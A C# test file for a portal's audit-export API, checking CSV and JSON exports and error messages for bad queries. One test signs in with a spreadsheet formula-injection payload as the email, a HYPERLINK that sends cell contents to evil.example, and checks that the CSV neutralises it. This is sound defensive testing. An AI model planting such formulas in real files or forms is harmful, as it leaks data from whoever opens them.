using System.Net;
using System.Text.Json.Nodes;
using ReactionsPortal.Tests.Attacks;
using ReactionsPortal.Tests.Fixtures;

namespace ReactionsPortal.Tests.Portal.Audit;

[Collection(AttackCollection.Name)]
public sealed class AuditExportTests(AttackedPortal running)
{
    private const string Formula = "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")@example.com";

    private PortalProcess Portal => running.Portal;

    [Fact]
    public async Task The_audit_is_downloaded_as_a_table_in_which_no_strangers_name_is_a_formula()
    {
        using var stranger = new FormClient(Portal);
        stranger.ComesFrom("192.0.2.77");
        await stranger.FillAsync("/sign-in", ("Email", Formula), ("Password", "x"));

        using var answer = await Portal.Api.TryAsync(HttpMethod.Get, $"/api/v1/audit/export?format=csv&action=SignInFailed&q={Uri.EscapeDataString("192.0.2.77")}");
        var lines = (await answer.Content.ReadAsStringAsync()).Split("\r\n");

        Assert.Equal(("text/csv", "attachment"), (answer.Content.Headers.ContentType?.MediaType, answer.Content.Headers.ContentDisposition?.DispositionType));
        Assert.StartsWith("sequence,at,actor,role,from,action,", lines[0].TrimStart('\ufeff'), StringComparison.Ordinal);
        Assert.Equal(3, lines.Length);
        Assert.Contains(",192.0.2.77,SignInFailed,Member,,\"'=HYPERLINK(\"\"https://evil.example?\"\"&A1,\"\"x\"\")@example.com\",nobody has this address,", lines[1], StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_audit_is_downloaded_whole_as_JSON_with_texts_and_hashes_the_newest_first()
    {
        var name = $"exported-{Guid.NewGuid():N}";
        for (var index = 0; index < 3; index++)
            await Portal.Api.SetSecretAsync(name, $"value {index}");

        var all = await Portal.Api.GetAsync<JsonArray>("/api/v1/audit/export?format=json");
        var one = await Portal.Api.GetAsync<JsonArray>($"/api/v1/audit/export?format=json&subject={name}");

        var sequences = all.Select(entry => (long)entry!["entry"]!["sequence"]!).ToList();
        Assert.Equal(Enumerable.Range(1, sequences.Count).Reverse().Select(number => (long)number), sequences);
        Assert.Equal(["SecretChanged", "SecretChanged", "SecretCreated"], one.Select(entry => (string)entry!["entry"]!["action"]!));
        Assert.Equal(64, ((string)one[0]!["entry"]!["hash"]!).Length);
    }

    [Theory]
    [InlineData("format=xlsx", "format")]
    [InlineData("format=csv&action=Nothing", "action")]
    public async Task What_is_wrong_with_an_export_is_named(string query, string field)
    {
        using var answer = await Portal.Api.TryAsync(HttpMethod.Get, $"/api/v1/audit/export?{query}");

        Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
        Assert.Contains($"\"{field}\"", await answer.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }
}
